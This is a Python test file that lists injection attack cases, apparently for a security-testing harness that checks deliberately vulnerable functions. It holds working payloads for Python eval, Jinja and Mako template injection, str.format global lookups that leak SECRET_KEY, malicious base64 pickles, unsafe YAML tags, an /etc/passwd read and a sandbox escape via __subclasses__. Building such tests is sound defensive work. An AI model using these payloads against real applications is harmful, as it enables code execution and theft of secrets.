"""Code, template, pickle, YAML and name injection."""

import base64

from tests.honest.corpus.cases import Attack, rest
from tests.honest.samples.sample import sqs

PICKLE = base64.b64encode(b"cos\npopen\n(S'echo $((40+2))x'\ntR.").decode()
PICKLE_EVAL = base64.b64encode(b"cbuiltins\neval\n(S'40+2'\ntR.").decode()
POPEN = "__import__('os').popen('echo $((40+2))x').read()"
CHAIN = "{{ cycler.__init__.__globals__.os.popen('echo $((40+2))x').read() }}"
GLOBALS = "{item.__init__.__globals__[SECRET_KEY]}"
ATTACKS = [
    Attack("Python code", "calculator", {"formula": POPEN}, "42x"),
    Attack("Python code", "calculator", {"formula": "SECRET_KEY"}, "function-secret-1815"),
    Attack("Python code", "calculator", {"formula": "open('/etc/passwd').read()"}, "root:"),
    Attack(
        "Python code",
        "calculator_no_builtins",
        {"formula": "().__class__.__base__.__subclasses__()"},
        "class",
    ),
    Attack(
        "Python code", "executed", {"code": "import os\nresult = os.popen('echo $((40+2))x').read()"}, "42x"
    ),
    Attack("Python code", "f_string", {"text": "{" + POPEN.replace("'", '"') + "}"}, "42x"),
    Attack("Python code", "compiled", {"rule": POPEN}, "42x"),
    Attack("Python code", "timed", {"statement": f"out.append({POPEN})"}, "42x"),
    Attack("Python code", "interpreter", {"line": f"out.append({POPEN})"}, "42x"),
    Attack(
        "Python code",
        "pandas_query",
        {"query": "a == 1 or @pandas.io.common.os.getcwd() == '/var/task'"},
        "[1]",
    ),
    Attack("Python code", "queue", sqs({"formula": POPEN}), "42x"),
    Attack("template", "template", {"name": CHAIN}, "42x"),
    Attack("template", "template", {"name": "{{ 40 + 2 }}x"}, "42x"),
    Attack("template", "template_environment", rest("GET", "/", title=CHAIN), "42x"),
    Attack("template", "mako_page", {"text": "<% import os %>${os.popen('echo $((40+2))x').read()}"}, "42x"),
    Attack("template", "mako_page", {"text": "${40 + 2}x"}, "42x"),
    Attack("str.format", "formatted", {"text": GLOBALS}, "function-secret-1815"),
    Attack("str.format", "format_template", {"template": GLOBALS}, "function-secret-1815"),
    Attack("str.format", "format_map", {"template": GLOBALS}, "function-secret-1815"),
    Attack("str.format", "formatter", {"template": GLOBALS}, "function-secret-1815"),
    Attack("pickle", "unpickled", {"state": PICKLE_EVAL}, "42"),
    Attack("pickle", "unpickled", {"state": PICKLE}, "wrap_close"),
    Attack("pickle", "unpickled_stream", {"body": PICKLE_EVAL}, "42"),
    Attack("YAML", "yaml_loaded", {"yaml": "!!python/object/apply:builtins.eval ['40+2']"}, "42"),
    Attack("YAML", "yaml_loaded", {"yaml": "!!python/object/apply:os.getcwd []"}, "/var/task"),
    Attack(
        "import",
        "imported",
        {"module": "subprocess", "function": "getoutput", "arguments": ["echo $((40+2))x"]},
        "42x",
    ),
    Attack(
        "import",
        "dunder_import",
        {"module": "subprocess", "function": "getoutput", "arguments": ["echo $((40+2))x"]},
        "42x",
    ),
    Attack("names", "by_globals", {"name": "SECRET_KEY"}, "function-secret-1815"),
    Attack("names", "by_builtins", {"function": "eval", "argument": POPEN}, "42x"),
]
